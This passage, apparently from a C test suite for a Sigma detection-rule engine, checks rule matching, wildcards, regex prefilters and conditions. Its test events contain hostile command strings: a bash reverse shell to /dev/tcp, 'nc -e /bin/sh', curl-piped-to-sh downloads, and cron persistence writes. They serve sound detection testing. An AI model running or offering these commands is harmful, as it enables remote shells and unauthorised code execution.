/* test_sigma — the Sigma evaluator: every modifier, condition form, wildcard
 * and escape, null and keywords, case rules, logsource filtering, the skip
 * reasons, malformed files inside a directory, the canonical-event mapping,
 * and allocation failure during loading (no leak, clean error). */
#include "testutil.h"

#include <ctype.h>
#include <jansson.h>
#include <pthread.h>
#include <sys/stat.h>
#include <unistd.h>

#include "sigma.h"
#include "sigma_int.h"     /* sj_no_prefilter, for the filter equivalence test */
#include "util.h"

/* ---- a tiny event: field/value pairs ------------------------------------- */

typedef struct kv {
    const char *k[16];
    const char *v[16];
    int n;
} kv;

static const char *kv_get(void *ctx, const char *f, size_t *len) {
    kv *e = ctx;
    for (int i = 0; i < e->n; i++)
        if (!strcmp(e->k[i], f)) { *len = strlen(e->v[i]); return e->v[i]; }
    return NULL;
}

/* Build a process_creation event on linux from "Field=value" strings. */
static sigma_event_view view_of(kv *e, const char *const *pairs, int n) {
    e->n = 0;
    for (int i = 0; i < n; i++) {
        const char *eq = strchr(pairs[i], '=');
        static char keys[64][64];
        static int next;
        char *k = keys[next++ % 64];
        snprintf(k, 64, "%.*s", (int)(eq - pairs[i]), pairs[i]);
        e->k[e->n] = k;
        e->v[e->n] = eq + 1;
        e->n++;
    }
    sigma_event_view v = {kv_get, e, NULL, 0, "linux", "process_creation", NULL};
    return v;
}

static const char *HEAD =
    "title: t\nid: 11111111-2222-3333-4444-555555555555\nstatus: test\nlevel: high\n"
    "tags:\n  - attack.execution\n  - attack.t1059.004\n  - attack.g0032\n  - attack.s0154\n  - cve.2021-44228\n"
    "logsource:\n  product: linux\n  category: process_creation\n";

/* Load HEAD + "detection:\n" + DET; assert exactly one rule loaded. */
static sigma_rules *load_det(const char *det) {
    char text[4096];
    snprintf(text, sizeof text, "%sdetection:\n%s", HEAD, det);
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_non_null(rs);
    int rc = sigma_load_text(rs, "t.yml", text, strlen(text));
    if (rc != 1) {
        for (int i = 0; i < sigma_skip_count(rs); i++)
            fprintf(stderr, "skip: %s\n", sigma_skip_at(rs, i)->reason);
        fail_msg("rule did not load (rc %d): %s", rc, det);
    }
    return rs;
}

/* Does the rule set hit an event made of PAIRS? */
#define HITS(rs, ...) hits_of(rs, NULL, (const char *const[]){__VA_ARGS__}, \
                              (int)(sizeof((const char *const[]){__VA_ARGS__}) / sizeof(char *)))
static int hits_of(sigma_rules *rs, const char *raw, const char *const *pairs, int n) {
    kv e;
    sigma_event_view v = view_of(&e, pairs, n);
    v.raw = raw;
    v.raw_len = raw ? strlen(raw) : 0;
    sigma_hit h[4];
    return sigma_match(rs, &v, h, 4);
}

/* The skip reason a detection gives (asserting it is skipped). */
static void expect_skip(const char *text, const char *needle) {
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_non_null(rs);
    int rc = sigma_load_text(rs, "s.yml", text, strlen(text));
    assert_true(rc == 0 || rc == NJ_EFORMAT);
    assert_int_equal(sigma_rule_count(rs), 0);
    assert_true(sigma_skip_count(rs) >= 1);
    const char *why = sigma_skip_at(rs, 0)->reason;
    if (!strstr(why, needle)) fail_msg("skip reason '%s' lacks '%s'", why, needle);
    assert_string_equal(sigma_skip_at(rs, 0)->file, "s.yml");
    sigma_rules_free(rs);
}

static void expect_det_skip(const char *det, const char *needle) {
    char text[4096];
    snprintf(text, sizeof text, "%sdetection:\n%s", HEAD, det);
    expect_skip(text, needle);
}

/* ---- metadata ------------------------------------------------------------- */

static void test_metadata(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    Image: /bin/sh\n  condition: sel\n");
    const sigma_rule_info *r = sigma_rule(rs, 0);
    assert_string_equal(r->title, "t");
    assert_string_equal(r->id, "11111111-2222-3333-4444-555555555555");
    assert_int_equal(r->level, SIGMA_HIGH);
    assert_string_equal(sigma_level_name(r->level), "high");
    assert_int_equal(r->n_techniques, 1);
    assert_string_equal(r->techniques[0], "T1059.004");
    assert_int_equal(r->n_tactics, 1);
    assert_string_equal(r->tactics[0], "execution");
    assert_string_equal(r->product, "linux");
    assert_string_equal(r->category, "process_creation");
    assert_string_equal(r->service, "");
    kv e;
    sigma_event_view v = view_of(&e, (const char *const[]){"Image=/bin/sh"}, 1);
    sigma_hit h[2];
    assert_int_equal(sigma_match(rs, &v, h, 2), 1);
    assert_int_equal(h[0].rule, 0);
    assert_string_equal(h[0].title, "t");
    assert_int_equal(h[0].level, SIGMA_HIGH);
    assert_int_equal(h[0].n_techniques, 1);
    assert_string_equal(h[0].techniques[0], "T1059.004");
    sigma_rules_free(rs);
}

/* ---- plain values, wildcards, escapes, case ----------------------------- */

static void test_exact_and_case(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    Image: /usr/bin/Curl\n  condition: sel\n");
    assert_int_equal(HITS(rs, "Image=/usr/bin/curl"), 1);
    assert_int_equal(HITS(rs, "Image=/USR/BIN/CURL"), 1);
    assert_int_equal(HITS(rs, "Image=/usr/bin/curl2"), 0);
    assert_int_equal(HITS(rs, "Image=x/usr/bin/curl"), 0);
    assert_int_equal(HITS(rs, "CommandLine=/usr/bin/curl"), 0);   /* other field */
    assert_int_equal(HITS(rs, "Other=1"), 0);                     /* absent */
    sigma_rules_free(rs);
}

static void test_wildcards(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    CommandLine: 'curl *http*|*sh'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=curl -s http://x/y | sh"), 1);
    assert_int_equal(HITS(rs, "CommandLine=CURL HTTP|SH"), 1);
    assert_int_equal(HITS(rs, "CommandLine=curl -s http://x/y | bash -x"), 0);   /* must end in sh */
    assert_int_equal(HITS(rs, "CommandLine=wget curl http|sh"), 0);             /* must start with curl */
    sigma_rules_free(rs);

    /* '?' is exactly one character. */
    rs = load_det("  sel:\n    Image: '/bin/?ash'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "Image=/bin/bash"), 1);
    assert_int_equal(HITS(rs, "Image=/bin/dash"), 1);
    assert_int_equal(HITS(rs, "Image=/bin/ash"), 0);
    assert_int_equal(HITS(rs, "Image=/bin/bbash"), 0);
    assert_int_equal(HITS(rs, "Image=/bin/bash\n"), 0);        /* anchored at the very end */
    sigma_rules_free(rs);

    /* Overlapping prefix and suffix must not share characters. */
    rs = load_det("  sel:\n    CommandLine: 'ab*ba'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=aba"), 0);
    assert_int_equal(HITS(rs, "CommandLine=abba"), 1);
    sigma_rules_free(rs);
}

static void test_escapes(void **state) {
    (void)state;
    /* \* is a literal star; \? a literal question mark. */
    sigma_rules *rs = load_det("  sel:\n    CommandLine: 'rm -rf \\*'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=rm -rf *"), 1);
    assert_int_equal(HITS(rs, "CommandLine=rm -rf /home"), 0);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    CommandLine: 'what\\?'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=what?"), 1);
    assert_int_equal(HITS(rs, "CommandLine=whatx"), 0);
    sigma_rules_free(rs);
    /* \\* is a literal backslash followed by a wildcard. */
    rs = load_det("  sel:\n    CommandLine: 'C:\\\\*'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=C:\\Windows"), 1);
    assert_int_equal(HITS(rs, "CommandLine=C:Windows"), 0);
    sigma_rules_free(rs);
    /* A backslash before anything else is itself. */
    rs = load_det("  sel:\n    CommandLine|contains: '\\x41'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=echo -e \\x41"), 1);
    assert_int_equal(HITS(rs, "CommandLine=echo A"), 0);
    sigma_rules_free(rs);
}

/* ---- modifiers ------------------------------------------------------------ */

static void test_contains_starts_ends(void **state) {
    (void)state;
    sigma_rules *rs = load_det(
        "  a:\n    CommandLine|contains: '/dev/tcp/'\n"
        "  b:\n    Image|endswith: '/nc'\n"
        "  c:\n    CommandLine|startswith: 'python'\n"
        "  condition: 1 of them\n");
    assert_int_equal(HITS(rs, "CommandLine=bash -i >& /DEV/TCP/1.2.3.4/80 0>&1"), 1);
    assert_int_equal(HITS(rs, "Image=/usr/bin/nc"), 1);
    assert_int_equal(HITS(rs, "Image=/usr/bin/ncat"), 0);
    assert_int_equal(HITS(rs, "CommandLine=Python3 -c x"), 1);
    assert_int_equal(HITS(rs, "CommandLine=/usr/bin/python3"), 0);
    sigma_rules_free(rs);
    /* Wildcards stay wildcards inside contains. */
    rs = load_det("  sel:\n    CommandLine|contains: 'curl*|*sh'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=x; curl -s u | sh -"), 1);
    assert_int_equal(HITS(rs, "CommandLine=x; curl -s u > sh"), 0);
    sigma_rules_free(rs);
}

static void test_lists_and_all(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    CommandLine|contains:\n      - ' -e '\n      - ' -c '\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=nc -e /bin/sh x 1"), 1);
    assert_int_equal(HITS(rs, "CommandLine=nc -c sh x 1"), 1);
    assert_int_equal(HITS(rs, "CommandLine=nc -l 1"), 0);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    CommandLine|contains|all:\n      - 'socket'\n      - 'subprocess'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=python -c 'import socket,subprocess'"), 1);
    assert_int_equal(HITS(rs, "CommandLine=python -c 'import socket'"), 0);
    sigma_rules_free(rs);
    /* A list of maps is an OR of ANDs. */
    rs = load_det("  sel:\n    - Image|endswith: /nc\n      CommandLine|contains: ' -e '\n"
                  "    - Image|endswith: /socat\n  condition: sel\n");
    assert_int_equal(HITS(rs, "Image=/bin/nc", "CommandLine=nc -e sh"), 1);
    assert_int_equal(HITS(rs, "Image=/bin/nc", "CommandLine=nc -l"), 0);
    assert_int_equal(HITS(rs, "Image=/usr/bin/socat"), 1);
    sigma_rules_free(rs);
}

static void test_re(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    CommandLine|re: '\\s-O\\s'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=wget -O /tmp/x"), 1);
    assert_int_equal(HITS(rs, "CommandLine=wget -o /tmp/x"), 0);     /* case-sensitive */
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    CommandLine|re|i: '\\s-O\\s'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=wget -o /tmp/x"), 1);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    CommandLine|re: '(?i)^CURL'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=curl x"), 1);
    sigma_rules_free(rs);
    /* m: ^ after newlines; s: dot matches newline. */
    rs = load_det("  sel:\n    CommandLine|re|m: '^rm'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=echo\nrm -rf x"), 1);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    CommandLine|re: '^echo.rm'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=echo\nrm"), 0);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    CommandLine|re|s: '^echo.rm'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=echo\nrm"), 1);
    sigma_rules_free(rs);
    /* Invalid UTF-8 in the event does not break matching. */
    rs = load_det("  sel:\n    CommandLine|re: 'b.d'\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=a\xff" "bad"), 1);
    sigma_rules_free(rs);
}

static void test_exists_null(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    ParentImage|exists: true\n  condition: sel\n");
    assert_int_equal(HITS(rs, "ParentImage=/bin/bash"), 1);
    assert_int_equal(HITS(rs, "ParentImage="), 1);
    assert_int_equal(HITS(rs, "Image=/bin/bash"), 0);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    ParentImage|exists: false\n  condition: sel\n");
    assert_int_equal(HITS(rs, "ParentImage=/bin/bash"), 0);
    assert_int_equal(HITS(rs, "Image=/bin/bash"), 1);
    sigma_rules_free(rs);
    /* null: absent or empty. */
    rs = load_det("  sel:\n    Image: /bin/sh\n    User: null\n  condition: sel\n");
    assert_int_equal(HITS(rs, "Image=/bin/sh"), 1);
    assert_int_equal(HITS(rs, "Image=/bin/sh", "User="), 1);
    assert_int_equal(HITS(rs, "Image=/bin/sh", "User=root"), 0);
    sigma_rules_free(rs);
    /* null in a value list is one alternative. */
    rs = load_det("  sel:\n    User:\n      - root\n      - ~\n  condition: sel\n");
    assert_int_equal(HITS(rs, "User=root"), 1);
    assert_int_equal(HITS(rs, "Image=x"), 1);
    assert_int_equal(HITS(rs, "User=alice"), 0);
    sigma_rules_free(rs);
    /* Empty string: present and empty only. */
    rs = load_det("  sel:\n    User: ''\n  condition: sel\n");
    assert_int_equal(HITS(rs, "User="), 1);
    assert_int_equal(HITS(rs, "Image=x"), 0);
    assert_int_equal(HITS(rs, "User=x"), 0);
    sigma_rules_free(rs);
}

static void test_cidr(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 'fd00::/8'\n"
                               "      - 192.168.1.0/25\n  condition: sel\n");
    assert_int_equal(HITS(rs, "DestinationIp=10.1.2.3"), 1);
    assert_int_equal(HITS(rs, "DestinationIp=11.1.2.3"), 0);
    assert_int_equal(HITS(rs, "DestinationIp=fd12::1"), 1);
    assert_int_equal(HITS(rs, "DestinationIp=fe80::1"), 0);
    assert_int_equal(HITS(rs, "DestinationIp=192.168.1.127"), 1);
    assert_int_equal(HITS(rs, "DestinationIp=192.168.1.128"), 0);
    assert_int_equal(HITS(rs, "DestinationIp=not-an-ip"), 0);
    sigma_rules_free(rs);
    expect_det_skip("  sel:\n    DestinationIp|cidr: 10.0.0.0/33\n  condition: sel\n", "bad cidr");
}

static void test_windash(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=x -enc y"), 1);
    assert_int_equal(HITS(rs, "CommandLine=x /enc y"), 1);
    assert_int_equal(HITS(rs, "CommandLine=x \xe2\x80\x93" "enc y"), 1);   /* en dash */
    assert_int_equal(HITS(rs, "CommandLine=x +enc y"), 0);
    sigma_rules_free(rs);
}

static void test_base64(void **state) {
    (void)state;
    /* base64("/bin/bash") = L2Jpbi9iYXNo */
    sigma_rules *rs = load_det("  sel:\n    CommandLine|base64|contains: /bin/bash\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=echo L2Jpbi9iYXNo | base64 -d"), 1);
    assert_int_equal(HITS(rs, "CommandLine=echo l2jpbi9iyxno"), 0);        /* base64 is case-sensitive */
    sigma_rules_free(rs);
    /* base64offset: the value at any of the three alignments inside a
     * longer encoded text.  "x/bin/sh" -> eC9iaW4vc2g=, "xy/bin/sh" ->
     * eHkvYmluL3No, "/bin/sh" -> L2Jpbi9zaA==. */
    rs = load_det("  sel:\n    CommandLine|base64offset|contains: /bin/sh\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=echo L2Jpbi9zaA== | base64 -d"), 1);
    assert_int_equal(HITS(rs, "CommandLine=echo eC9iaW4vc2g= | base64 -d"), 1);
    assert_int_equal(HITS(rs, "CommandLine=echo eHkvYmluL3No | base64 -d"), 1);
    assert_int_equal(HITS(rs, "CommandLine=echo aGVsbG8gd29ybGQ="), 0);
    sigma_rules_free(rs);
    expect_det_skip("  sel:\n    CommandLine|base64offset: /bin/sh\n  condition: sel\n", "base64offset without contains");
}

static void test_numeric_fieldref_cased(void **state) {
    (void)state;
    sigma_rules *rs = load_det("  sel:\n    DestinationPort|gte: 1024\n    DestinationPort|lt: 5000\n  condition: sel\n");
    assert_int_equal(HITS(rs, "DestinationPort=4444"), 1);
    assert_int_equal(HITS(rs, "DestinationPort=1024"), 1);
    assert_int_equal(HITS(rs, "DestinationPort=5000"), 0);
    assert_int_equal(HITS(rs, "DestinationPort=80"), 0);
    assert_int_equal(HITS(rs, "DestinationPort=http"), 0);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    SourcePort|gt: 10\n    DestinationPort|lte: 10\n  condition: sel\n");
    assert_int_equal(HITS(rs, "SourcePort=11", "DestinationPort=10"), 1);
    assert_int_equal(HITS(rs, "SourcePort=10", "DestinationPort=10"), 0);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    ParentImage|fieldref: Image\n  condition: sel\n");
    assert_int_equal(HITS(rs, "Image=/bin/sh", "ParentImage=/BIN/SH"), 1);
    assert_int_equal(HITS(rs, "Image=/bin/sh", "ParentImage=/bin/bash"), 0);
    assert_int_equal(HITS(rs, "ParentImage=/bin/sh"), 0);
    sigma_rules_free(rs);
    rs = load_det("  sel:\n    CommandLine|cased|contains: ' -O '\n  condition: sel\n");
    assert_int_equal(HITS(rs, "CommandLine=wget -O x"), 1);
    assert_int_equal(HITS(rs, "CommandLine=wget -o x"), 0);
    sigma_rules_free(rs);
}


/* The literal prefilter in front of each regex must never reject a value
 * the regex matches: quantifiers, groups, classes, case flags and
 * alternations each checked against a value that matches only if the
 * prefilter read them right. */
static void test_re_prefilter(void **state) {
    (void)state;
    struct { const char *re, *value; int want; } cases[] = {
        {"abb+c", "xxabbbbcxx", 1},          /* '+' ends the run after one b */
        {"colou?rful", "colorful", 1},       /* optional u */
        {"colou?rful", "colourful", 1},
        {"ab{2}cd", "abbcd", 1},
        {"ab{0,3}cde", "acde", 1},
        {"xa(b|c)dyz", "xacdyz", 1},         /* group skipped */
        {"x[ab]cdef", "xbcdef", 1},
        {"(?i)ABCdef", "abcDEF", 1},         /* case flag */
        {"ABCdef", "abcdef", 0},             /* case-sensitive: regex says no */
        {"foo|barbaz", "barbaz", 1},         /* alternation: no prefilter */
        {"\\.exe\\s+-run", "a.exe  -run", 1},
        {"[)(]abc\\)def", "(abc)def", 1},  /* classes with parentheses */
        {"(?:x(?:y|z))+qrs", "xzxyqrs", 1},
        {"abc*def", "abdef", 1},             /* c optional */
        {"ab.*cdef", "ab---cdef", 1},
        {"ab.*cdef", "ab---cdxf", 0},
        {"(?x) a b c d", "abcd", 1},         /* extended mode: no prefilter */
        /* Literal sets: alternations, classes, repeats, lookarounds. */
        {"(?:ab)?cd|efg", "cd", 1},
        {"(?:ab)?cd|efg", "xefgx", 1},
        {"(?:ab)?cd|efg", "xefx", 0},
        {"a(?=bcd)", "abcd", 1},
        {"a(?=bcd)", "abce", 0},
        {"(?<=xyz)abc", "xyzabc", 1},
        {"(?!foo)bar", "bar", 1},
        {"(ab|cd)\\1", "xcdcdx", 1},        /* backreference: gives up */
        {"q{abc}z", "q{abc}z", 1},           /* '{' that is no quantifier */
        {"[A-C]xyz", "bxyz", 0},
        {"[A-C]xyz", "Bxyz", 1},
        {"(?i)[A-C]xyz", "bXYZ", 1},
        {"(?i)caf\xc3\xa9", "CAF\xc3\x89", 1},   /* non-ASCII case pairs */
        {"(?i)caf\xc3\xa9s", "xCAF\xc3\x89S", 1},
        {"(?i)kill -9", "\xe2\x84\xaaill -9", 1},  /* Kelvin sign: a caseless k */
        {"(?i)\xe2\x84\xaaill -9", "kill -9", 1},
        {"(?i)^use\\b", "u\xc5\xbf" "e", 1},            /* long s: a caseless s */
        {"ab+?c", "abbc", 1},
        {"ab++c", "abbc", 1},
        {"\\bword\\b", "a word b", 1},
        {"(?#note)abc", "abc", 1},
        {"(?P<n>abc)def|ghi", "ghi", 1},
        {"(?<n>abc)def|ghi", "abcdef", 1},
        {"(?i:ABC)def", "abcdef", 1},
        {"(?i:ABC)def", "abcDEF", 0},
        {"x(?:a|b|c|d|e|f|g|h|i|j|k|l|m|n|o|p|q|r|s|t|u|v|w|x|y|z|0|1|2|3|4|5|6|7|8|9)y", "x7y", 1},
        {"[^a]bc", "xbc", 1},
        {"a\\tb", "a\tb", 1},
        {"(a|b)*cd", "cd", 1},
        {"(?:abc){2}", "abcabc", 1},
        {"(?:abc){0}xyz", "xyz", 1},
        {"ab{1}c", "abc", 1},
        {"^(?:curl|wget)\\s", "WGET x", 0},
        {"^(?:curl|wget)\\s", "wget x", 1},
        {"(?i)^(?:curl|wget)\\s", "WGET x", 1},
        {"(?:>>?|tee\\s+(?:-a\\s+)?)\\s*/etc/cron\\.(?:d|daily)/", "echo x | tee -a /etc/cron.d/job", 1},
        {"(?:>>?|tee\\s+(?:-a\\s+)?)\\s*/etc/cron\\.(?:d|daily)/", "echo x >/etc/cron.daily/job", 1},
        {"(?:>>?|tee\\s+(?:-a\\s+)?)\\s*/etc/cron\\.(?:d|daily)/", "cat /etc/cron.d/job", 0},
        {"[[:alpha:]]+=[0-9]{2,}", "key=42", 1},
        {"[-_.]xyz|[ab-]q", "-q", 1},
        {"\\x41bc", "Abc", 1},              /* \x: gives up */
    };
    for (size_t i = 0; i < NJ_ARRAY_LEN(cases); i++) {
        char det[512];
        snprintf(det, sizeof det, "  sel:\n    CommandLine|re: '%s'\n  condition: sel\n", cases[i].re);
        sigma_rules *rs = load_det(det);
        char pair[256];
        snprintf(pair, sizeof pair, "CommandLine=%s", cases[i].value);
        int got = hits_of(rs, NULL, (const char *const[]){pair}, 1);
        if (got != cases[i].want) fail_msg("re '%s' on '%s': got %d", cases[i].re, cases[i].value, got);
        sj_no_prefilter = 1;
        got = hits_of(rs, NULL, (const char *const[]){pair}, 1);
        sj_no_prefilter = 0;
        if (got != cases[i].want) fail_msg("re '%s' on '%s' without filters: got %d", cases[i].re, cases[i].value, got);
        sigma_rules_free(rs);
    }
}

/* A rule's necessary-item prefilter must agree with the full evaluation. */
static void test_rule_prefilter(void **state) {
    (void)state;
    sigma_rules *rs = load_det(
        "  sel_img:\n    Image|endswith:\n      - /curl\n      - /wget\n"
        "  sel_cli:\n    CommandLine|contains|all:\n      - ' -o '\n      - '/tmp/'\n"
        "  filter:\n    CommandLine|contains: localhost\n"
        "  condition: all of sel_* and not filter\n");
    assert_int_equal(HITS(rs, "Image=/usr/bin/curl", "CommandLine=curl http://x -o /tmp/y"), 1);
    assert_int_equal(HITS(rs, "Image=/usr/bin/wget", "CommandLine=wget http://example -o /tmp/yyyyyyyyyyyyy"), 1);
    assert_int_equal(HITS(rs, "Image=/usr/bin/curl", "CommandLine=curl http://localhost -o /tmp/y"), 0);
    assert_int_equal(HITS(rs, "Image=/usr/bin/cur", "CommandLine=curl http://x -o /tmp/y"), 0);
    assert_int_equal(HITS(rs, "Image=/usr/bin/curl", "CommandLine=curl http://xxxxxxxxxxxxx -o /var/y"), 0);
    assert_int_equal(HITS(rs, "CommandLine=curl http://x -o /tmp/y"), 0);
    sigma_rules_free(rs);
    /* OR at the top: no prefilter may be taken from one side. */
    rs = load_det("  a:\n    Image|endswith: /nc\n  b:\n    CommandLine|contains: 'something long enough here'\n"
                  "  condition: a or b\n");
    assert_int_equal(HITS(rs, "Image=/bin/bash", "CommandLine=x something long enough here x"), 1);
    assert_int_equal(HITS(rs, "Image=/bin/nc", "CommandLine=x"), 1);
    sigma_rules_free(rs);
    /* Alternatives through '1 of', list selections and |all, on values long
     * enough for the bigram sets: every way to match must still match. */
    rs = load_det("  sel_a:\n    - CommandLine|contains: 'alpha-needle'\n    - ParentCommandLine|contains: 'beta-needle'\n"
                  "  sel_b:\n    CommandLine|contains|all:\n      - 'gamma'\n      - 'delta'\n"
                  "  sel_c:\n    CommandLine|re: 'epsilon[0-9]+zeta'\n"
                  "  condition: 1 of sel_*\n");
    assert_int_equal(HITS(rs, "CommandLine=xxxxxxxx alpha-needle yyyyyyyyyy"), 1);
    assert_int_equal(HITS(rs, "CommandLine=xxxxxxxxxxxxxxxxxxxxxxxxxxx", "ParentCommandLine=zzzzz beta-needle zzzzzzzz"), 1);
    assert_int_equal(HITS(rs, "CommandLine=xxxxxxx GAMMA xxxxxx Delta xxxxxxxx"), 1);
    assert_int_equal(HITS(rs, "CommandLine=xxxxxxx gamma xxxxxx xxxxxxxxxxxxxx"), 0);
    assert_int_equal(HITS(rs, "CommandLine=xxxxxxxxxxxxxxxx epsilon42zeta xxxxxxxx"), 1);
    assert_int_equal(HITS(rs, "CommandLine=xxxxxxxxxxxxxxxx epsilonzeta xxxxxxxxxx"), 0);
    assert_int_equal(HITS(rs, "CommandLine=short"), 0);
    sigma_rules_free(rs);
}

/* The literal prefilter (each rule's necessary literals, found per field
 * in one pass) must give the answers of the full evaluation whatever the
 * condition's shape: AND/OR/NOT, 'N of', |all, keywords, null and exists
 * selections, base64, cased and windash values, one-byte literals, regex
 * alternations.  Every pair of fragments below, on three images, with and
 * without a parent, is matched with and without the filters. */
static void test_literal_prefilter(void **state) {
    (void)state;
    static const char *rules =
        "title: r1\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    CommandLine|re: '(?:cp|mv)\\s+\\S+\\s+/etc/cron\\.(?:d|daily)/'\n  condition: a\n---\n"
        "title: r2\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    CommandLine|contains: abc\n  b:\n    Image|endswith: /zz\n"
        "  c:\n    ParentImage|exists: true\n  condition: (a and b) or c\n---\n"
        "title: r3\nlogsource:\n  category: process_creation\ndetection:\n"
        "  keywords:\n    - kw-one\n    - KW-two\n  f:\n    CommandLine|contains: nope\n"
        "  condition: keywords and not f\n---\n"
        "title: r4\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    CommandLine|contains|all: [p1q, r2s]\n  b:\n    CommandLine|re: '(?i)X(?:Y|Z)W'\n"
        "  condition: a or b\n---\n"
        "title: r5\nlogsource:\n  category: process_creation\ndetection:\n"
        "  sel1:\n    Image|endswith: [/a, /b]\n  sel2:\n    CommandLine|re: 'go+d|ba[dr]'\n"
        "  condition: all of sel*\n---\n"
        "title: r6\nlogsource:\n  category: process_creation\ndetection:\n"
        "  sel1:\n    ParentImage: null\n    CommandLine|contains: zq\n  sel2:\n    CommandLine|contains: xx\n"
        "  condition: 1 of sel*\n---\n"
        "title: r7\nlogsource:\n  category: process_creation\ndetection:\n"
        "  sel1:\n    CommandLine|contains: aa1\n  sel2:\n    CommandLine|contains: bb2\n"
        "  sel3:\n    CommandLine|contains: cc3\n  condition: 2 of sel*\n---\n"
        "title: r8\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    CommandLine|base64offset|contains: curl\n  condition: a\n---\n"
        "title: r9\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    CommandLine|contains|cased: MiXed\n  condition: a\n---\n"
        "title: r10\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    CommandLine|windash|contains: ' -enc'\n  condition: a\n---\n"
        "title: r11\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    CommandLine|contains: '|'\n  b:\n    CommandLine|contains: ';'\n  condition: a and b\n---\n"
        "title: r12\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    - CommandLine|startswith: 'good '\n    - Image|endswith: /zz\n"
        "  b:\n    CommandLine|contains: [abc, xyw]\n  condition: a and not b\n---\n"
        "title: r13\nlogsource:\n  category: process_creation\ndetection:\n"
        "  a:\n    CommandLine|re: '[ab]c[de]|q?rs'\n  b:\n    CommandLine|contains: '*'\n  condition: a or b\n";
    static const char *frag[] = {
        "cp /x /etc/cron.d/y", "MV a  /etc/cron.daily/", "abc", "kw-one", "KW-TWO", "p1q r2s", "xyw", "XZW",
        "good", "bar", "aa1 cc3", "bb2", "Y3VybA", "MiXed", "mixed", "/enc", "\xe2\x80\x93" "enc", "a|b;c", "nope",
        "", "zq", "xx", "bce", "rs", "good ", "x", "GOOD bar",
    };
    static const char *images[] = {"/usr/bin/zz", "/a", "/x"};
    int err;
    sigma_rules *rs = sigma_rules_new(&err);
    assert_non_null(rs);
    assert_int_equal(sigma_load_text(rs, "lit.yml", rules, strlen(rules)), 13);
    int compared = 0, hits = 0, seen[13] = {0};
    for (size_t i = 0; i < NJ_ARRAY_LEN(frag); i++)
        for (size_t j = 0; j < NJ_ARRAY_LEN(frag); j++)
            for (size_t im = 0; im < NJ_ARRAY_LEN(images); im++)
                for (int parent = 0; parent < 2; parent++) {
                    char cmd[128];
                    snprintf(cmd, sizeof cmd, "%s %s", frag[i], frag[j]);
                    kv e = {{"CommandLine", "Image", "ParentImage"}, {cmd, images[im], "/bin/sh"}, parent ? 3 : 2};
                    sigma_event_view v = {kv_get, &e, cmd, strlen(cmd), NULL, "process_creation", NULL};
                    sigma_hit h1[16], h2[16];
                    int k1 = sigma_match(rs, &v, h1, 16);
                    sj_no_prefilter = 1;
                    int k2 = sigma_match(rs, &v, h2, 16);
                    sj_no_prefilter = 0;
                    if (k1 != k2) fail_msg("filters changed the hit count (%d vs %d) for '%s' on %s", k1, k2, cmd, images[im]);
                    for (int k = 0; k < k1 && k < 16; k++) {
                        if (h1[k].rule != h2[k].rule) fail_msg("filters changed hit %d for '%s'", k, cmd);
                        seen[h1[k].rule] = 1;
                    }
                    compared++;
                    hits += k1;
                }
    /* Every rule is hit by some event, so no comparison is vacuous. */
    for (int r = 0; r < 13; r++)
        if (!seen[r]) fail_msg("rule r%d is hit by no event", r + 1);
    assert_true(compared > 1000);
    assert_true(hits > 500);
    sigma_rules_free(rs);
}

/* ---- conditions ------------------------------------------------------------ */

static void test_conditions(void **state) {
    (void)state;
    const char *sels = "  sel_a:\n    CommandLine|contains: aaa\n"
                       "  sel_b:\n    CommandLine|contains: bbb\n"
                       "  filter:\n    CommandLine|contains: fff\n";
    struct { const char *cond; int a, b, ab, abf, none, f; } cases[] = {
        /*                         a  b  ab abf none f */
        {"sel_a and sel_b",        0, 0, 1, 1, 0, 0},
        {"sel_a or sel_b",         1, 1, 1, 1, 0, 0},
